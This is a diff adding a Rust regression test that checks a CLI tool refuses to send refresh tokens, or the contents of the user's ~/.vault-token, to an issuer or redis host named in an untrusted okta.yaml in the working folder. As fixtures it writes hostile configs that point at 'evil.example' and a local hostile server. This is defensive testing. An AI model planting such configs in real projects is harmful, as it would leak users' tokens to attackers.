@@ -278,3 +278,28 @@ fn a_secret_that_others_can_read_is_noted_once_by_each_command_that_uses_it() {
     let said = crate::common::Sandbox::start(&world, &args).end_and_tell();
     assert!(!said.contains("other users"), "{said}");
 }
+
+#[test_support::test]
+fn a_file_in_the_working_folder_gets_no_refresh_token_and_no_file_of_the_user() {
+    let (hostile, world) = (Hostile::new(), World::new());
+    world.write("tokens.txt", "opaque\n");
+    let app = format!(
+        "issuer: 'http://{}/oauth2/default', clientId: evil, requestTimeout: 1, rateLimit: {{maxRetries: 0}}",
+        hostile.address()
+    );
+    world.write("okta.yaml", &format!("okta: {{client: {{{app}, authorizationMode: none}}}}"));
+    for token in [JWT, "opaque-refresh-token"] {
+        let run = world.pipe(&["token", "--refresh"], token);
+        refused(token, &run, &["no refresh token is sent there", "--issuer"]);
+    }
+    fs::write(world.home().join(".vault-token"), "hvs.s3cr3t-of-another").unwrap();
+    let shared = "shared: {url: 'redis://evil.example', username: a, passwordFile: ~/.vault-token}";
+    for members in ["clientSecretFile: ~/.vault-token", shared] {
+        world.write("okta.yaml", &format!("okta: {{client: {{{app}, {members}}}}}"));
+        for command in COMMANDS {
+            let run = world.pipe(command, JWT);
+            refused(members, &run, &["whose content would be sent"]);
+        }
+    }
+    assert_eq!(hostile.connections(), 0);
+}
